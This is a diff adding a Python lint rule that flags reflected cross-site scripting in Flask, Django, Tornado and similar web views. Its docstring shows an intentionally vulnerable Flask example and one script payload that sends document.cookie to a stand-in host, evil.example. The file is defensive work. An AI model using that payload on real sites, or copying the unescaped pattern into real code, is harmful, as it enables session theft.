@@ -1,0 +1,163 @@
+"""## What it does
+Finds HTML responses built from what the client sent, without escaping:
+a Flask, Quart or Bottle view (or one whose arguments webargs parses) that
+returns a string made with an f-string, ``%``, ``.format`` or ``+`` from
+``request.args``, ``request.form``, a route parameter or ``req.params``;
+Django's ``HttpResponse(...)``, WebOb's and Pyramid's ``Response(...)``
+(and ``resp.text = ...``), Starlette's ``HTMLResponse(...)``, Flask's
+``make_response(...)`` and Tornado's ``self.write(...)`` given such a string.
+Responses declared as plain text or JSON (``mimetype="text/plain"``,
+``jsonify``, FastAPI's default JSON) and values passed through ``escape``,
+``html.escape``, ``markupsafe.escape`` or ``bleach.clean`` are fine.
+
+## Why is this bad?
+The browser reads the response as HTML, so a value such as
+``<script>fetch('//evil.example/?c='+document.cookie)</script>`` in a link's
+query string runs as this site's script for whoever follows the link:
+reflected cross-site scripting.  It reads the page, the session and
+anything the user can do there.
+
+## Example
+```python
+from flask import Flask, request
+
+app = Flask(__name__)
+
+@app.route("/hello")
+def hello():
+    return "<h1>Hello, %s!</h1>" % request.args.get("name", "World")
+```
+
+## Use instead
+```python
+from flask import Flask, render_template_string, request
+from markupsafe import escape
+
+app = Flask(__name__)
+
+@app.route("/hello")
+def hello():
+    return f"<h1>Hello, {escape(request.args.get('name', 'World'))}!</h1>"
+```
+Render templates with autoescaping (``render_template``), or escape every
+value that comes from the request.
+
+## References
+- [CWE-79: Improper Neutralization of Input During Web Page Generation ('Cross-site Scripting')](https://cwe.mitre.org/data/definitions/79.html)
+- [Flask: HTML escaping](https://flask.palletsprojects.com/en/stable/quickstart/#html-escaping)
+"""
+
+from __future__ import annotations
+
+import ast
+import re
+from typing import Iterator, Optional
+
+from ...languages.python import Call, PythonView
+from ...model import Hit
+from ..registry import rule
+from ._web_helpers import built_string, client_input, described_input, is_route, number_fields, route_parameters
+
+# Responses whose body is HTML unless they say otherwise: (short name, the keywords that hold the body).
+HTML_RESPONSES = {"HttpResponse": ("content",), "Response": ("body", "text", "response"), "HTMLResponse": ("content",),
+                  "make_response": (), "HTTPOk": ("body", "text")}
+NOT_HTML_TYPE = re.compile(r"text/plain|json|xml|csv|octet-stream|javascript|image/", re.IGNORECASE)
+PLAIN_BY_DEFAULT = ("aiohttp", "starlette.responses.Response", "fastapi.Response", "falcon")
+JSON_FRAMEWORKS = ("fastapi", "falcon", "ninja", "rest_framework")
+ARITHMETIC = (ast.Mult, ast.Sub, ast.Div, ast.FloorDiv, ast.Pow)
+
+
+@rule(
+    id="DSP065",
+    symbol="reflected-xss",
+    title="HTML response built from the request without escaping (reflected XSS)",
+    severity="high",
+    cwe=79,
+    languages=("python",),
+    equivalent="none (Semgrep python.flask.security.audit.directly-returned-format-string)",
+    message="returns HTML built from what the client sent, unescaped: a crafted link runs script on this site; "
+            "escape the value or render a template",
+    use_instead="f\"<h1>Hello, {escape(name)}</h1>\" (markupsafe.escape) or render_template(...)",
+    name_triggers=("args", "form", "values", "params", "get", "post", "query", "match_info", "get_argument",
+                   "use_args", "use_kwargs", "arguments", "route", "matchdict", "cookies"),
+)
+def check(code: PythonView) -> Iterator[Hit]:
+    parameters = route_parameters(code)
+    json_app = any(code.aliases.get(name, name).split(".")[0] in JSON_FRAMEWORKS for name in code.aliases)
+    for call in code.calls:
+        body = _response_body(code, call)
+        if body is not None:
+            found = _unescaped_input(code, body, parameters)
+            if found:
+                yield Hit(call.line, code.column(call.node), f"`{call.written}(...)` answers with HTML built from "
+                          f"{found} without escaping: a crafted link runs script on this site (reflected XSS); "
+                          "escape it (`markupsafe.escape`) or render a template")
+        elif call.short == "write" and isinstance(call.node.func, ast.Attribute) and \
+                getattr(call.node.func.value, "id", "") == "self" and call.node.args:
+            found = _unescaped_input(code, call.node.args[0], parameters)  # Tornado's RequestHandler.write
+            if found:
+                yield Hit(call.line, code.column(call.node), f"`self.write(...)` answers with HTML built from {found} "
+                          "without escaping (reflected XSS); escape it with `tornado.escape.xhtml_escape`")
+    if not json_app:
+        yield from _returned_strings(code, parameters)
+    yield from _body_assignments(code, parameters)
+
+
+def _response_body(code: PythonView, call: Call) -> Optional[ast.AST]:
+    keywords = HTML_RESPONSES.get(call.short)
+    if keywords is None or any(part in call.name for part in PLAIN_BY_DEFAULT):
+        return None
+    others = [*call.node.args[1:], *(keyword.value for keyword in call.node.keywords)]
+    if any(NOT_HTML_TYPE.search(code.text_of(value, 200)) for value in others):
+        return None  # mimetype="text/plain", {"Content-Type": "application/json"}, ...
+    if call.node.args and not isinstance(call.node.args[0], ast.Starred):
+        return call.node.args[0]
+    return next((call.keyword(name) for name in keywords if call.keyword(name) is not None), None)
+
+
+def _returned_strings(code: PythonView, parameters: frozenset[str]) -> Iterator[Hit]:
+    for function in code.nodes_of(ast.FunctionDef, ast.AsyncFunctionDef):
+        if not is_route(function):
+            continue
+        for node in ast.walk(function):
+            if isinstance(node, ast.Return) and node.value is not None:
+                value = node.value.elts[0] if isinstance(node.value, ast.Tuple) and node.value.elts else node.value
+                found = _unescaped_input(code, value, parameters)
+                if found:
+                    yield Hit(node.lineno, code.column(node), f"the view returns HTML built from {found} without "
+                              "escaping (a returned string is a text/html response): a crafted link runs script on "
+                              "this site (reflected XSS); escape it (`markupsafe.escape`) or render a template")
+
+
+def _body_assignments(code: PythonView, parameters: frozenset[str]) -> Iterator[Hit]:
+    """WebOb's and Pyramid's ``resp.text = ...`` / ``resp.body = ...``."""
+    for node in code.nodes_of(ast.Assign):
+        for target in node.targets:  # type: ignore[attr-defined]
+            if isinstance(target, ast.Attribute) and target.attr in ("text", "body", "unicode_body") and \
+                    getattr(target.value, "id", "") in ("resp", "response", "res"):
+                found = _unescaped_input(code, node.value, parameters)  # type: ignore[attr-defined]
+                if found:
+                    yield Hit(node.lineno, code.column(node), f"`{target.value.id}.{target.attr}` is HTML built from "  # type: ignore[attr-defined]
+                              f"{found} without escaping (reflected XSS); escape it first")
+
+
+def _unescaped_input(code: PythonView, node: ast.AST, parameters: frozenset[str]) -> Optional[str]:
+    """How a message names the client input a built string carries unescaped, or ``None``."""
+    if isinstance(node, ast.Name):
+        values = code.assigned_where_read(node)
+        node = values[0] if len(values) == 1 else node
+    built = built_string(code, node)
+    if built is None:
+        return None
+    numbers = number_fields(code)
+    for piece in built.dynamic:
+        if isinstance(piece, ast.Subscript) and isinstance(piece.slice, ast.Constant) and piece.slice.value in numbers:
+            continue  # ``args["page"]`` parsed by ``fields.Int()``: a number
+        if isinstance(piece, ast.Call) and getattr(piece.func, "id", "") in ("int", "float", "len", "bool"):
+            continue
+        if isinstance(piece, ast.BinOp) and isinstance(piece.op, ARITHMETIC):
+            continue  # ``args["foo"] * 2``: a number
+        origin = client_input(code, piece, parameters)
+        if origin is not None:
+            return described_input(code, origin)
+    return None
